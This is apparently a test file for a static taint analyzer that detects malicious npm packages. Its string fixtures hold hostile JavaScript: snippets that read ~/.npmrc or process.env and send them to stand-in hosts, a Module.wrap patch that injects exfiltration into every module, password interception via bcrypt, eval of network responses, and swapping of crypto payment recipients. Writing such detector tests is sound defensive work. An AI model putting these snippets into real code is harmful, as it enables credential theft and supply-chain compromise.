import { describe, expect, it } from 'vitest';
import { interpretPackage, loadTaintModels } from '../../../src/analyze/javascript/index.js';
import { flows, follow } from './sample.js';

const SECRET = "require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')";

/** Ways through the language and through libraries that unseen samples took. */
const TO_A_REQUEST: Record<string, string> = {
  'what follows a try that may fail': `async function go() { try { await require('fs').promises.access('/tmp/x'); return; } catch {} fetch('https://c.example', { body: ${SECRET} }); } go();`,
  'a handler of leaving that finds what came later': `const bag = []; process.once('exit', () => fetch('https://c.example', { body: bag.join() })); setTimeout(() => bag.push(${SECRET}), 5);`,
  'a reviver': `JSON.parse(${SECRET}, (k, v) => { fetch('https://c.example', { body: v }); return v; });`,
  'a counted list': `const n = require('os').cpus().length; const s = ${SECRET}; Array.from({ length: n }, () => fetch('https://c.example', { body: s }));`,
  'an emitter made of functions': `var E = require('events'); function A() { var t = E.call(this) || this; t.s = ${SECRET}; return t; } A.prototype = E === null ? {} : Object.create(E.prototype); A.prototype.go = function () { fetch('https://c.example', { body: this.s }); }; new A().go();`,
  'a file in a folder whose name is not known': `const fs = require('fs'); fs.writeFileSync('/tmp/c/' + Math.random(), ${SECRET}); for (const f of fs.readdirSync('/tmp/c')) fetch('https://c.example', { body: fs.readFileSync('/tmp/c/' + f) });`,
  'a client library': `const { MongoClient } = require('mongodb'); new MongoClient('mongodb://m.example/x').connect().then((c) => c.db('a').collection('b').insertOne({ s: ${SECRET} }));`,
  'code put around modules':
    'const M = require(\'module\'); const w = M.wrap; M.wrap = (s) => w(\'fetch("https://c.example", { body: require("fs").readFileSync(require("os").homedir() + "/.npmrc") });\' + s);',
};

describe('flows reach a request', () => {
  it.each(Object.entries(TO_A_REQUEST))('%s', (_name, code) => {
    expect(flows(follow(code), 'secret.file', 'net.out')).toBeDefined();
  });

  it('from what may be the environment, key by key, to an address in bytes', () => {
    const code = `const v = new DataView(Uint8Array.of(203, 0, 113, 9, 2, 2).buffer); const host = [0, 1, 2, 3].map((at) => v.getUint8(at)).join('.');
      exports.log = (fields) => { const all = Math.random() > 2 ? fields : process.env; require('dgram').createSocket('udp4').send(Object.keys(all).map((k) => k + all[k]).join(), v.getUint16(4), host); };`;
    expect(flows(follow(code), 'env.all', 'net.socket')?.target).toBe('203.0.113.9:514');
  });

  it('not from the key of a signature', () => {
    const code = `const c = require('crypto'); exports.send = (tx, privateKey) => fetch('https://c.example', { body: c.sign(null, tx, privateKey) });`;
    expect(flows(follow(code), 'param.secret', 'net.out')).toBeUndefined();
    expect(
      flows(follow(code.replace('c.sign(null, tx, privateKey)', 'privateKey')), 'param.secret', 'net.out'),
    ).toBeDefined();
  });

  it('not from what a client is made with', () => {
    const code = "const { createClient } = require('redis'); createClient({ password: process.env.REDIS_PASSWORD });";
    expect(flows(follow(code), 'secret.env', 'net.out')).toBeUndefined();
  });
});

describe('what passes through others', () => {
  it('a function that replaces one of a module gets what others hand over', () => {
    const code =
      "const b = require('bcrypt'); const h = b.hash; b.hash = (p) => { fetch('https://c.example', { body: p }); return h(p); };";
    expect(flows(follow(code), 'param.intercepted', 'net.out')).toBeDefined();
  });

  it('so does a hook of a given client', () => {
    const code =
      "exports.attach = (client) => client.interceptors.request.use((c) => { fetch('https://c.example', { body: c.headers }); return c; });";
    expect(flows(follow(code), 'param.intercepted', 'net.out')).toBeDefined();
  });

  it('the answer of a failed request is in its error', () => {
    const code =
      "(async () => { try { await require('axios').get('https://c.example'); } catch (e) { eval(e.response.data); } })();";
    expect(flows(follow(code), 'net.response', 'code.eval')).toBeDefined();
    expect(flows(follow(code.replace('e.response.data', 'e.message')), 'net.response', 'code.eval')).toBeUndefined();
  });

  it('a handler of data files runs what they hold', () => {
    const code =
      "require.extensions['.json'] = (m, f) => m._compile(require('fs').readFileSync(f, 'utf8').split('//')[1], f);";
    const found = flows(follow(code), 'file.other', 'code.eval');
    expect(found?.taints.map((taint) => taint.detail)).toEqual(['$LOADED/*.json']);
  });
});

describe('commands of several ways', () => {
  it('alternatives that belong together stay together', () => {
    const code =
      "const [c, ...a] = process.platform === 'win32' ? ['cmd', '/c', 'dir'] : ['sh', '-c', 'ls']; require('child_process').execFile(c, a);";
    const lines = follow(code)
      .observations.filter((each) => each.sink === 'process.spawn')
      .map((each) => each.target);
    expect(lines).toEqual(['cmd /c dir', 'sh -c ls']);
  });

  it('parts of a text that may be empty are not known to be missing', () => {
    const code =
      "exports.run = (ctx) => { const [head, tail] = String(ctx.cookie || '').split('~'); if (!tail) return; require('child_process').exec(head); };";
    expect(follow(code).observations.some((each) => each.sink === 'process.spawn')).toBe(true);
  });

  it('a path of one of a few names is one of a few paths', () => {
    const code =
      "const n = process.platform === 'win32' ? 'a.bat' : 'b.sh'; require('fs').writeFileSync(require('path').join('/opt', n), 'x');";
    const paths = follow(code)
      .observations.filter((each) => each.sink === 'fs.write')
      .map((each) => each.target);
    expect(paths).toEqual(['/opt/a.bat', '/opt/b.sh']);
  });
});

describe('commands of a command line', () => {
  const send = `fetch('https://c.example', { method: 'POST', body: ${SECRET} })`;
  const lazy = `module.exports = require('citty').defineCommand({ run() { ${send}; } });`;

  it.each([
    [
      'an object with a handler',
      `require('yargs')(process.argv).command({ command: 'go', handler: () => { ${send}; } }).argv;`,
    ],
    [
      'a class that is registered',
      `const { Cli, Command } = require('clipanion'); class Go extends Command { async execute() { ${send}; } } new Cli().register(Go);`,
    ],
    [
      'a command that is loaded when it is asked for',
      `require('citty').runMain({ subCommands: { go: () => import('./go.js').then((m) => m.default) } });`,
    ],
  ])('%s runs without being asked for', (_way, code) => {
    const result = interpretPackage(
      {
        files: new Map(Object.entries({ 'index.js': code, 'go.js': lazy })),
        manifest: { name: 'sample', version: '1.0.0' },
        entries: [{ phase: 'bin', file: 'index.js', via: 'bin' }],
      },
      loadTaintModels('rules/taint'),
    );
    expect(flows(result, 'secret.file', 'net.out')?.unasked).toBe(true);
  });
});

describe('what comes one by one, or is picked', () => {
  it.each([
    [
      'next() of an iterator by hand',
      `const i = [${SECRET}][Symbol.iterator](); let r; const out = []; while (!(r = i.next()).done) out.push(r.value); fetch('https://c.example', { body: out.join() });`,
    ],
    [
      'values of a map',
      `const m = new Map([['a', ${SECRET}]]); fetch('https://c.example', { body: m.values().next().value });`,
    ],
  ])('%s', (_way, code) => {
    expect(flows(follow(code), 'secret.file', 'net.out')).toBeDefined();
  });

  it('a command line of a list that may be another one', () => {
    const code = `const r = { win32: ['cmd.exe', '/c', 'run.cmd'], other: null }; const a = r[process.platform] || r.other; if (a) require('child_process').spawnSync(a[0], a.slice(1));`;
    expect(follow(code).observations.find(({ sink }) => sink === 'process.spawn')?.target).toBe('cmd.exe /c run.cmd');
  });

  it('a recipient that is sometimes an address of the code, not a default of it', () => {
    const pay = (to: string): string[] =>
      follow(
        `require('ethers'); fetch('https://rpc.example'); const T = '0x52908400098527886E0F7030069857D2E4169EE7'; exports.pay = (wallet, given, value) => wallet.sendTransaction({ to: ${to}, value });`,
      ).facts.map(({ id }) => id);
    expect(pay('value > 9 ? T : given')).toContain('recipient-picked');
    expect(pay('given ?? T')).not.toContain('recipient-picked');
    expect(pay('T')).not.toContain('recipient-picked');
  });

  it('a payment link that sometimes names an address of the code, not a default of it', () => {
    const link = (to: string): string[] =>
      follow(
        `const T = '0x52908400098527886E0F7030069857D2E4169EE7'; exports.link = (given, amount) => ${to};`,
      ).facts.map(({ id }) => id);
    expect(link('`ethereum:${amount > 9 ? T : given}`')).toContain('recipient-in-link');
    expect(link("'ethereum:' + (amount > 9 ? T : given)")).toContain('recipient-in-link');
    expect(link('`ethereum:${given ? given : T}`')).not.toContain('recipient-in-link');
    expect(link('`ethereum:${amount > 9 ? T : given}/transfer?address=${given}`')).not.toContain('recipient-in-link');
  });
});
